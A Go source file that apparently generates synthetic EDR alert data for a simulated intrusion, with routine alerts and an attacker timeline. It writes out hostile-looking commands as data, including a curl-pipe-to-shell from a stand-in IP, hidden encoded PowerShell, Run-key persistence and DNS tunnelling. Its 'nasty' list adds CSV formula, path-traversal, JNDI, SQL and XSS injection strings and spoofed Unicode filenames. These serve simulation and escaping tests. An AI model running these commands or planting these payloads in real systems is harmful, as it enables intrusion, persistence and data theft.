package story

import (
	"strings"
	"time"
)

// routine is one harmless thing that still raises an alert now and then.
type routine struct {
	backend, rule, platform string
	p                       prog
}

var routines = []routine{
	{CWatch, "admin-tool", "windows", prog{path: system32 + "mmc.exe", cmd: "mmc.exe devmgmt.msc", signer: microsoft}},
	{CWatch, "service", "windows", prog{path: system32 + "sc.exe", cmd: "sc.exe start wuauserv", signer: microsoft}},
	{CWatch, "info", "windows", prog{path: system32 + "reg.exe", cmd: `reg.exe query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System`, signer: microsoft}},
	{CWatch, "untrusted", "windows", prog{path: `C:\Users\Public\Downloads\label-printer-setup.exe`, cmd: "label-printer-setup.exe /S"}},
	{CWatch, "service-stop", "windows", prog{path: system32 + "net.exe", cmd: "net stop spooler", signer: microsoft}},
	{CWatch, "ps-flag", "windows", prog{path: psExe, cmd: `powershell.exe -NoProfile -File \\SRV-FS-01\it\inventory.ps1`, signer: microsoft}},
	{CarbonBlack, "admin", "", prog{path: system32 + "taskmgr.exe", signer: microsoft}},
	{CarbonBlack, "pup", "", prog{path: `C:\Tools\wallpaper-changer.exe`, cmd: "wallpaper-changer.exe --tray"}},
	{CarbonBlack, "script", "windows", prog{path: cmdExe, cmd: `cmd.exe /c C:\Scripts\rotate-logs.cmd`, signer: microsoft}},
	{CarbonBlack, "discovery", "windows", prog{path: system32 + "net.exe", cmd: "net user /domain", signer: microsoft}},
	{CarbonBlack, "beacon", "windows", prog{path: progFiles + `Northvault\Agent\nvagent.exe`, cmd: "nvagent.exe --report", signer: "Northvault Ltd"}},
	{Gene, "discovery", "windows", prog{path: system32 + "net.exe", cmd: "net group /domain", signer: microsoft}},
	{Gene, "newexe", "windows", prog{path: `C:\Users\Public\Downloads\zoom-installer.exe`, cmd: "zoom-installer.exe"}},
	{Gene, "info", "windows", prog{path: system32 + "mstsc.exe", cmd: "mstsc.exe /v:SRV-APP-03", signer: microsoft}},
	{Gene, "unsigned", "windows", prog{path: `C:\Tools\legacy-erp\erp.exe`, cmd: "erp.exe --terminal"}},
	{Gene, "task", "windows", prog{path: system32 + "schtasks.exe", cmd: `schtasks /create /tn "ERP sync" /tr "C:\Tools\legacy-erp\sync.exe" /sc daily`, signer: microsoft}},
	{ESP, "sudo", "linux", prog{path: "/usr/bin/sudo", cmd: "sudo -i", signer: "dpkg"}},
	{ESP, "scan", "linux", prog{path: "/usr/bin/nmap", cmd: "nmap -sn 10.20.10.0/24", signer: "dpkg"}},
	{ESP, "intel", "linux", prog{path: "/usr/bin/curl", cmd: "curl -sI https://www.news.example/", signer: "dpkg"}},
	{ESP, "curlsh", "linux", prog{path: "/usr/bin/bash", cmd: "bash -c 'curl -fsSL https://registry.packages.example/install.sh | sh'", signer: "dpkg"}},
	{ESP, "sshlat", "linux", prog{path: "/usr/bin/ssh", cmd: "ssh deploy@web-03", signer: "dpkg"}},
}

// perBackend is how many background alerts each backend has over the span.
const perBackend = 26

// background raises the alerts of an ordinary week, most of them closed or
// dismissed already.
func (b *builder) background() {
	for _, backend := range []string{CWatch, CarbonBlack, Gene, ESP} {
		r := newRng(streamOf("background " + backend))
		var mine []routine
		for _, x := range routines {
			if x.backend == backend {
				mine = append(mine, x)
			}
		}
		pools := b.poolsOn(backend)
		for i := range perBackend {
			x := mine[i%len(mine)]
			if i >= perBackend*2/3 {
				x = mine[r.intn(3)] // the newer ones are the quiet kinds
			}
			// From three days ago to six hours ago: before the intrusion.
			at := b.s.Anchor.Add(-6*time.Hour - time.Duration(perBackend-1-i)*(66*time.Hour/perBackend) - time.Duration(r.intn(3600))*time.Second)
			a := b.routine(x, pools, r, at)
			switch v := r.intn(10); {
			case i >= perBackend-6:
				// still to be looked at
			case v < 5:
				a.Status, a.Verdict = "closed", "false_positive"
			case v < 6:
				a.Status, a.Verdict = "closed", "true_positive"
			case v < 9:
				a.Status = "dismissed"
			}
		}
	}
}

func (b *builder) poolsOn(backend string) []*pool {
	var out []*pool
	for i := range b.s.pools {
		if b.s.pools[i].host.On(backend) {
			out = append(out, &b.s.pools[i])
		}
	}
	return out
}

// routine runs x on one of the hosts it fits and raises its alert.
func (b *builder) routine(x routine, pools []*pool, r *rng, at time.Time) *Alert {
	var fit []*pool
	for _, po := range pools {
		if po.host.LastSeen.Before(at) && !po.host.Online {
			continue
		}
		if x.platform == "" && po.host.Platform != "linux" || po.host.Platform == x.platform {
			fit = append(fit, po)
		}
	}
	po := pick(r, fit)
	p := x.p
	if po.host.Platform == "darwin" { // the Mac's own way to do the same
		p = prog{path: "/System/Applications/Utilities/Activity Monitor.app/Contents/MacOS/Activity Monitor", signer: "Apple"}
	}
	parent := po.shell
	if parent == nil {
		parent = po.system[0]
	}
	p.user = parent.User
	q, e := b.start(parent, at.Truncate(time.Millisecond), p)
	q.Ended = q.Started.Add(time.Duration(5+r.intn(300)) * time.Second)
	return b.alert(x.backend, x.rule, e)
}

// nasty is text that must never reach a terminal, a CSV cell or a file name
// as it is. All of it is valid UTF-8.
var nasty = []struct{ name, cmd string }{
	{"clear.cmd", "cmd.exe /c echo \x1b[2J\x1b[1;31mALL CLEAR\x1b[0m \x1b]8;;http://203.0.113.9/\x07click\x1b]8;;\x07"},
	{"progress.exe", "progress.exe --ok\rprogress.exe --nothing-to-see-here      "},
	{"invoice\u202efdp.exe", "\"C:\\Users\\Public\\invoice\u202efdp.exe\" /open"},
	{"pay\u200bpal\u200d.exe", "pay\u200bpal\u200d.exe \u2066hidden\u2069 \ufeff--run"},
	{"=cmd|'/C calc'!A0.exe", "=cmd|'/C calc'!A0"},
	{"@SUM(1+1).exe", "@SUM(1+1)*cmd|' /C notepad'!A0"},
	{"-rf.sh", "+1-1\t-rf --no-preserve-root"},
	{"bell\x07.exe", "bell\x07.exe \x00nul \x7fdel \u009b31mc1 \ufffd\ufffd replaced"},
	{"<img src=x onerror=alert(1)>.exe", "mshtml.exe \"<script>alert('x')</script>\" <b>bold</b> &amp; </td></tr>"},
	{`..\..\..\x.exe`, `copy ..\..\..\Windows\x ..\..\x ; ../../../../etc/passwd %2e%2e%2f`},
	{"newline\nname.exe", "first line\nsecond line\r\nthird\u2028fourth\u2029fifth"},
	{"long.exe", "long.exe " + strings.Repeat("--argument-of-a-very-long-command-line=0123456789abcdef ", 150)},
	{"emoji\U0001F600\U000E0041tag.exe", "e\u0301 \U0001F469\u200d\U0001F4BB \U000E0041\U000E0042 \u0085nel {{.Secrets}} ${jndi:ldap://x} '; DROP TABLE alerts;--"},
}

// hostile plants nasty text on every backend, in records of low severity.
func (b *builder) hostile() {
	hosts := map[string]string{CWatch: "MKT-LT-118", CarbonBlack: "SRV-MX-01", Gene: "SALES-LT-054", ESP: "web-03"}
	for _, backend := range []string{CWatch, CarbonBlack, Gene, ESP} {
		h := b.hosts[hosts[backend]]
		sh := b.s.pools[h.N-1].shell
		dir := `C:\Users\Public\`
		if h.Platform != "windows" {
			dir = "/tmp/"
		}
		for i, n := range nasty {
			at := 1000 - float64(i)*7
			q, e := b.start(sh, b.mins(at), prog{path: dir + n.name, cmd: n.cmd, content: "odd " + n.name})
			if backend == ESP || backend == Gene {
				f := b.file("file_create", q, at-.1, dir+n.name+".txt", "odd "+n.name, 12)
				f.FileOldPath = n.name
			} else {
				f := b.file("file_create", q, at-.1, dir+n.name+".txt", "odd "+n.name, 12)
				if backend == CWatch {
					f.Kind = "file_write"
				}
			}
			if i%4 == 0 {
				b.alert(backend, "hostile", e)
			}
		}
	}
}

// future is what arrives after the anchor, every 20 to 60 seconds: the
// intruder continues, between routine alerts and harmless events.
func (b *builder) future() {
	r := newRng(streamOf("future"))
	beacons := map[string]*Process{}
	for backend, host := range map[string]string{CWatch: "HR-LT-221", CarbonBlack: "SRV-DB-02", Gene: "FIN-WS-014", ESP: "build-07"} {
		for _, p := range b.s.Processes {
			if p.Host.Name == host && (p.Name == base(msUpd) || p.Name == "kworkerd") {
				beacons[backend] = p
			}
		}
	}
	type step struct {
		rule string
		make func(p *Process, at float64) *Event
	}
	run := func(path, cmd string) func(*Process, float64) *Event {
		return func(p *Process, at float64) *Event {
			signer := microsoft
			if p.Host.Platform == "linux" {
				signer = "dpkg"
			}
			_, e := b.evil(p, at, prog{path: path, cmd: cmd, user: p.User, signer: signer})
			return e
		}
	}
	beacon := func(p *Process, at float64) *Event { return b.connect(p, at, c2IP, 443, c2Domain) }
	steps := map[string][]step{
		CWatch: {
			{"ps-flag", run(psExe, "powershell.exe -nop -w hidden -enc "+encoded)},
			{"keyboard", func(p *Process, at float64) *Event {
				e := b.did("device_access", p, at)
				e.FilePath = `\Device\KeyboardClass0`
				return e
			}},
			{"admin-tool", run(system32+"whoami.exe", "whoami /groups")},
			{"runkey", func(p *Process, at float64) *Event {
				return b.reg("registry_set", p, at, `HKCU\Software\Microsoft\Windows\CurrentVersion\Run`, "EdgeUpdateHelper", msUpd)
			}},
		},
		CarbonBlack: {
			{"beacon", beacon},
			{"discovery", run(system32+"net.exe", `net view \\SRV-FS-01`)},
			{"script", run(cmdExe, `cmd.exe /c dir D:\MSSQL\Backup`)},
			{"wmi", run(psExe, "powershell.exe -nop -enc "+encoded)},
		},
		Gene: {
			{"beacon", beacon},
			{"discovery", run(system32+"net.exe", `net group "Treasury" /domain`)},
			{"psenc", run(psExe, "powershell.exe -nop -w hidden -enc "+encoded)},
			{"dnstun", func(p *Process, at float64) *Event { return b.dns(p, at, label60(r)+"."+relayZone, "TXT") }},
		},
		ESP: {
			{"intel", beacon},
			{"dnsexf", func(p *Process, at float64) *Event { return b.dns(p, at, label60(r)+"."+relayZone, "TXT") }},
			{"sudo", run("/usr/bin/sudo", "sudo -u postgres psql -l")},
			{"curlsh", run("/usr/bin/bash", "bash -c 'curl -fsSL http://203.0.113.66/b.sh | sh'")},
		},
	}
	order := []string{Gene, CWatch, CarbonBlack, ESP}
	noises := map[string]*noise{}
	for _, name := range order {
		noises[name] = b.s.newNoise(name)
	}
	at := 0.0
	for i := 0; ; i++ {
		at += float64(20+r.intn(41)) / 60
		if at > ahead.Minutes() {
			return
		}
		backend := order[i%len(order)]
		st := pick(r, steps[backend])
		e := st.make(beacons[backend], -at)
		b.alert(backend, st.rule, e)
		// Something harmless as well, on the next backend's fleet.
		n := noises[order[(i+1)%len(order)]]
		x := &Event{}
		po := pick(r, n.pools)
		x.Host, x.Time = po.host, b.mins(-at-.1)
		x.N = len(b.s.events) + 1
		n.fill(x, po, newRng(n.stream, uint64(i)+1<<40))
		b.s.events = append(b.s.events, x)
	}
}
